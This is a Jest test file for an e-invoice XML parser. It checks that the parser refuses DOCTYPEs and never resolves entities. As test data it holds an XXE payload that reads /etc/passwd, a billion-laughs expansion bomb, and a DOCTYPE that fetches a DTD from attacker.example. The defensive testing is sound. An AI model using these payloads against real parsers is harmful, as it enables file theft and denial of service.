import { readEInvoiceXml } from './einvoice-xml.reader';
import { parseXmlSafely } from './xml-tree';

const EXTERNAL_ENTITY = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Invoice [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2" xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:ID>&xxe;</cbc:ID>
</Invoice>`;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`;

describe('XML parsing never resolves entities or DTDs', () => {
  it('refuses an external entity pointing at /etc/passwd before reading anything', () => {
    expect(() => readEInvoiceXml(EXTERNAL_ENTITY)).toThrow(expect.objectContaining({ code: 'XML_DOCTYPE_FORBIDDEN' }));
    expect(() => parseXmlSafely(Buffer.from(EXTERNAL_ENTITY))).toThrow(expect.objectContaining({ code: 'XML_DOCTYPE_FORBIDDEN' }));
  });

  it('refuses a billion-laughs document quickly', () => {
    const started = process.hrtime.bigint();
    expect(() => parseXmlSafely(BILLION_LAUGHS)).toThrow(expect.objectContaining({ code: 'XML_DOCTYPE_FORBIDDEN' }));
    expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(1000);
  });

  it('leaves undeclared entity references as written instead of looking them up', () => {
    const root = parseXmlSafely('<a><b>&xxe; &amp;lt; &#65;&#x42; &unknown;</b></a>');
    expect(root.children[0].text).toBe('&xxe; &lt; AB &unknown;');
  });

  it('refuses a DOCTYPE even without entities (a DTD could be fetched)', () => {
    const withDtd = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><a/>';
    expect(() => parseXmlSafely(withDtd)).toThrow(expect.objectContaining({ code: 'XML_DOCTYPE_FORBIDDEN' }));
  });
});
